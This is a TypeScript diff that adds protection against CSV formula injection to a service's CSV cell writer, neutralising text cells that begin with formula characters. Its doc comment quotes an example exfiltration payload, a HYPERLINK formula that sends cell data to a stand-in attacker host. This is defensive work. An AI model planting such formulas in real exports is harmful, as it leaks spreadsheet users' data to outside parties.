@@ -1,7 +1,23 @@
-/** RFC 4180 CSV: fields quoted when they hold a separator, a quote or a line break. */
-function field(value: unknown): string {
+/**
+ * The one CSV cell writer of the service (API answers and the import's --report file).
+ *
+ * RFC 4180: a cell is quoted when it holds a separator, a quote or a line break.
+ *
+ * Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
+ * `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?leak="&A2,...)` sends the sheet's
+ * data away when clicked), and tab, CR, LF or NUL before one of those can get it past a filter.
+ * Such a text cell gets a leading `'`, which spreadsheets take as "this is text" and do not
+ * show. Only text: a number is written as the number it is, so `-12.5` stays a negative number
+ * and the figures stay numbers; a text that merely looks like a number (`-12`) is still text
+ * and is neutralised like any other.
+ */
+const FORMULA_START = /^[=+\-@\t\r\n\0]/
+
+export function csvCell(value: unknown): string {
   if (value === null || value === undefined) return ''
-  const text = String(value)
+  let text = String(value)
+  const isNumber = typeof value === 'number' || typeof value === 'bigint'
+  if (!isNumber && FORMULA_START.test(text)) text = `'${text}`
   return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text
 }
 
@@ -18,8 +34,8 @@ function flatten(row: Record<string, unknown>, prefix = '', out: Record<string, 
 export function toCsv(rows: Array<Record<string, unknown>>, columns?: string[]): string {
   const flat = rows.map((row) => flatten(row))
   const header = columns ?? [...new Set(flat.flatMap((row) => Object.keys(row)))]
-  const lines = [header.map(field).join(',')]
-  for (const row of flat) lines.push(header.map((column) => field(row[column])).join(','))
+  const lines = [header.map(csvCell).join(',')]
+  for (const row of flat) lines.push(header.map((column) => csvCell(row[column])).join(','))
   return `${lines.join('\r\n')}\r\n`
 }
 
